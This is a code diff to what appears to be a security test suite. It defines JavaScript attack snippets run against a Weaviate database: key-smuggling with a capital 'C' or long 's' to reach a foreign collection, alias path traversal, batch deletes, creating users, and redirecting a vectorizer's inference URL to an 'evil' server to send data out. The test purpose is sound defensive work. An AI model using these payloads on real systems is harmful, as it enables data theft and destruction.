@@ -1,8 +1,8 @@
 /** Code that a reader could be talked into running. It prints GOT with whatever it should not have got. */
 export interface Attack {
   name: string;
-  /** `evil` is a server that must hear nothing. */
-  code(evil: string): string;
+  /** `evil` is a server that must hear nothing, `site` the one that the page came from. */
+  code(evil: string, site: string): string;
   /** What the run prints when the attack fails. */
   prints?: string[];
 }
@@ -21,6 +21,9 @@ const text =
 const call = `const call = async (name, bytes, type = 'application/grpc-web+proto') => (await fetch('${rest}/v1/grpc-web/weaviate.v1.Weaviate/' + name, { method: 'POST', headers: { 'content-type': type, 'x-grpc-web': '1' }, body: frame(bytes) })).status;`;
 const json = (method: string, path: string, body?: unknown) =>
   `const { status } = await fetch('${rest}${path}', { method: '${method}', ${body === undefined ? '' : `headers: { 'content-type': 'application/json' }, body: ${JSON.stringify(JSON.stringify(body))}`} }); if (status >= 300) throw new Error('status ' + status); return status;`;
+
+/** Makes a collection of the page's own, behind which a foreign one could hide. */
+const own = `await client.collections.create({ name: 'Mine' });`;
 
 export const attacks: Attack[] = [
   {
@@ -124,9 +127,9 @@ await client.getMeta(); console.log(seen.length);`,
   },
   {
     name: 'reach the site that the page came from',
-    code: () =>
+    code: (_, site) =>
       attempt(
-        `const request = new XMLHttpRequest(); request.open('GET', new URL('/proof.json', 'http://localhost').href, false); request.send(); return request.responseText;`,
+        `const request = new XMLHttpRequest(); request.open('GET', '${site}/proof.json', false); request.send(); return request.responseText;`,
       ),
   },
   {
@@ -145,7 +148,8 @@ await client.getMeta(); console.log(seen.length);`,
   { name: 'make a user', code: () => attempt(json('POST', '/v1/users/db/mallory')) },
   {
     name: 'move an alias to another collection',
-    code: () => attempt(json('PUT', '/v1/aliases/Own', { class: 'Foreign' })),
+    code: () =>
+      `${own} await client.alias.create({ alias: 'Other', collection: 'Mine' });\n${attempt(json('PUT', '/v1/aliases/Other', { class: 'Foreign' }))}`,
   },
   {
     name: 'reach a foreign collection by another name',
@@ -187,19 +191,51 @@ await client.getMeta(); console.log(seen.length);`,
   {
     name: 'hide a foreign collection behind an own one in a message',
     code: () =>
-      `${frame} ${text} ${call}\n${attempt(`return await call('BatchDelete', [...text(1, 'Own'), ...text(1, 'Foreign')]);`)}`,
+      `${own} ${frame} ${text} ${call}\n${attempt(`return await call('BatchDelete', [...text(1, 'Mine'), ...text(1, 'Foreign')]);`)}`,
   },
   {
     name: 'hide a foreign collection from JSON by a large letter',
     code: () =>
-      attempt(json('POST', '/v1/objects', { class: 'Own', Class: 'Foreign', properties: { text: 'mine' } })),
+      `${own} ${attempt(json('POST', '/v1/objects', { class: 'Mine', Class: 'Foreign', properties: { text: 'mine' } }))}`,
+  },
+  {
+    name: 'hide a foreign collection from JSON by a long s',
+    code: () =>
+      `${own} ${attempt(json('POST', '/v1/objects', { class: 'Mine', claſs: 'Foreign', properties: { text: 'mine' } }))}`,
+  },
+  {
+    name: 'delete the objects of a foreign collection by a long s',
+    code: () =>
+      `${own} ${attempt(json('DELETE', '/v1/batch/objects', { match: { class: 'Mine', claſs: 'Foreign', where: { path: ['text'], operator: 'Like', valueText: '*' } } }))}`,
+  },
+  {
+    name: 'have the page delete a foreign collection as if it were an alias',
+    code: () => {
+      const again = json('POST', '/v1/aliases', { alias: '../schema/Foreign', aliaſ: 'Good', class: 'Mine' });
+      return `${own} ${attempt(again)} ${attempt(again)}`;
+    },
+  },
+  {
+    name: 'have Weaviate send texts elsewhere',
+    code: (evil) => {
+      // The evil server by an address of which nobody has said that it is this computer.
+      const inferenceUrl = evil.replace('127.0.0.1', '[::ffff:127.0.0.1]');
+      const collection = {
+        class: 'Mine',
+        vectorizer: 'text2vec-model2vec',
+        moduleConfig: { 'text2vec-model2vec': { inferenceUrl } },
+      };
+      return attempt(
+        `await (async () => { ${json('POST', '/v1/schema', collection)} })(); return await client.collections.use('Mine').data.insert({ text: 'not yours' });`,
+      );
+    },
   },
   {
     name: 'hide a foreign collection in a list that the path does not use',
     code: () =>
       attempt(
         json('POST', '/v1/objects', {
-          objects: [{ class: 'Own' }],
+          objects: [{ class: 'Mine' }],
           class: 'Foreign',
           properties: { text: 'mine' },
         }),
